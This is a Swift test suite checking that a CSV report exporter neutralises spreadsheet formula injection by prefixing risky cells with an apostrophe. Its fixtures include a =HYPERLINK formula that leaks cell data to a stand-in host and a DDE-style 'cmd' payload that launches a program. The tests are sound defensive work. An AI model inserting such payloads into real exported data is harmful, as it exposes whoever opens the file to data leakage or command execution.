import Foundation
import Testing
import CasemarkModel
@testable import CasemarkReport

/// `report --format csv` opened in a spreadsheet never runs a formula that came from the data.
@Suite struct SpreadsheetSafeCSVTests {
    static let hyperlink = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click for details\")"

    /// London, with one officer renamed to a formula and a discretion reason that is another.
    static func inspection(reason: String) throws -> Inspection {
        var inspection = try London.inspection(rated: true)
        let officer = inspection.cases[0].responsibleOfficer.name
        for i in inspection.cases.indices where inspection.cases[i].responsibleOfficer.name == officer {
            inspection.cases[i].responsibleOfficer.name = hyperlink
        }
        inspection.record.ratings["2.2"]?.reason = reason
        return inspection
    }

    static func cells(_ report: ResultsReport) throws -> [String] {
        try CSVRows.read(try Report.render(report, format: .csv)).flatMap { $0 }
    }

    @Test("an officer named =HYPERLINK(…) is written as text: the cell starts with an apostrophe")
    func officerFormula() throws {
        let report = try ResultsReport(inspection: Self.inspection(reason: "fine"), officer: Self.hyperlink)
        let cells = try Self.cells(report)
        #expect(cells.contains("'" + Self.hyperlink))
        #expect(!cells.contains(Self.hyperlink))
    }

    @Test("a rating reason starting with any formula character is neutralised", arguments: [
        "=1+1", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTabbed =1", "\r=1",
    ])
    func reasonFormula(reason: String) throws {
        let cells = try Self.cells(ResultsReport(inspection: Self.inspection(reason: reason)))
        #expect(cells.contains("'" + reason))
        #expect(!cells.contains(reason))
        // No cell anywhere in the report starts a formula.
        for cell in cells {
            guard let first = cell.unicodeScalars.first else { continue }
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first) || SpreadsheetCell.isPlainNumber(cell), "\(cell)")
        }
    }

    @Test("numbers, ordinary text and a dash inside a cell are left exactly as they were")
    func harmless() {
        for cell in ["-3", "+12", "-0.5", "62", "Requires improvement", "Jack O'Neill", "a=b", "", "—", "2019-06-14"] {
            #expect(SpreadsheetCell.safe(cell) == cell)
        }
        for cell in ["-", "+", "-1-1", "-1e3", "=", "-.5", "@"] {
            #expect(SpreadsheetCell.safe(cell) == "'" + cell)
        }
    }
}
